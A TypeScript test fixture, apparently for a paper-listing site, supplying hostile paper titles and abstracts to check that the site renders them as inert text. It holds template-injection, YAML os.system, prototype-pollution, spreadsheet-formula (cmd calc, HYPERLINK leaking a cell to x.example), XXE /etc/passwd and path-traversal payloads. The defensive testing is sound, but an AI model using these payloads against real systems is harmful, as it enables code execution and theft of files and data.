import { RUN, type HostilePaper } from '../hostile-paper.ts';

/** What some program would run, expand or take for its own data: here it is a text. */
export const TEMPLATES: readonly HostilePaper[] = [
  {
    attacks: 'templates of Astro, Vue and others',
    title: 'Templates {{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
    abstract: `{${RUN}} {{constructor.constructor('${RUN}')()}} <% ${RUN} %> \${${RUN}}`,
  },
  {
    attacks: 'imports of MDX',
    title: 'import x from "https://x.example/y.js"',
    abstract: `import x from 'y' export const z = ${RUN} <Component client:load />`,
  },
  {
    attacks: 'front matter in an abstract',
    title: '--- title: Another ---',
    abstract: '---js module.exports = { title: process.exit() } --- {"title": 1}',
  },
  {
    attacks: 'tags of YAML',
    title: "!!js/function 'function () { return 1 }'",
    abstract: '!!python/object/apply:os.system ["x"] &a [*a, *a] <<: *b',
  },
  {
    attacks: 'values that YAML reads otherwise',
    title: 'null',
    abstract: 'yes no on off 1e3 0x1F 2024-01-01 12:30:45 ~ .inf .nan',
  },
  {
    attacks: 'a prototype',
    title: '__proto__',
    abstract: '{"__proto__": {"polluted": true}}',
    facts: { authors: ['__proto__'], venue: '__proto__' },
  },
  {
    attacks: 'a constructor',
    title: 'constructor',
    facts: { authors: ['toString'], venue: 'constructor', published: '9999' },
  },
  {
    attacks: 'a table of a spreadsheet',
    title: '=HYPERLINK("https://x.example/?"&A1;"Click")',
    abstract: `=cmd|' /C calc'!A0;=1+1;@SUM(A1)`,
    facts: { authors: ['+1', '=1', '-1+cmd'], venue: '@x;=1' },
  },
  {
    attacks: 'full-width formulas',
    title: '＝1＋1 and ＠SUM',
    abstract: '＝HYPERLINK("x"); ＝1;－1',
  },
  {
    attacks: 'BibTeX that ends early',
    title: 'Braces } and { and $a}b$ @misc{x,',
    abstract: '}, @article{y, title = {z}}',
    facts: { authors: ['Ann } Other', 'A and B', '{'], venue: 'Proc. } of { Braces 2024', published: '2024' },
  },
  {
    attacks: 'RIS that ends early',
    title: 'ER  - TY  - JOUR',
    abstract: 'ER  - TY  - JOUR TI  - Another',
    becomes: 'ER - TY - JOUR',
    says: 'ER - TY - JOUR TI - Another',
    facts: { authors: ['AU  - X', 'ER  - '], venue: 'ER  - ', published: '2024' },
  },
  {
    attacks: 'XML that ends early',
    title: ']]></title></entry></feed> &nbsp; <?xml version="1.1"?>',
    abstract: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> &y; ]]>',
    becomes: ']]></title></entry></feed> <?xml version="1.1"?>',
    says: '<!ENTITY y SYSTEM',
  },
  {
    attacks: 'queries of the search',
    title: 'area:code -model "unended phrase',
    abstract: 'params:>7b has:code sort:newest q=x&page=9',
  },
  {
    attacks: 'paths',
    title: '../../../etc/passwd',
    abstract: '..\\..\\windows\\win.ini %2e%2e%2f /papers/../../x',
    facts: { venue: '../../x', published: '0000' },
  },
  { attacks: 'a name of a device', title: 'CON', facts: { published: '0000-01-01' } },
  { attacks: 'a device with an ending', title: 'Aux.', becomes: 'Aux.' },
  { attacks: 'a page of the site', title: 'index' },
  { attacks: 'the page not found', title: '404' },
  { attacks: 'two titles of one address, first', title: 'C++ & Models!' },
  { attacks: 'two titles of one address, second', title: 'C and Models?' },
  {
    attacks: 'numbers beyond numbers',
    title: 'A 1e309B Model of 99999999999999999999B Parameters',
    abstract: 'With 0B, -7B, 1e999B, 1/0B, NaNB and 10^400 parameters, and 0.0000000001M.',
    facts: { published: '9999-12-31' },
  },
];
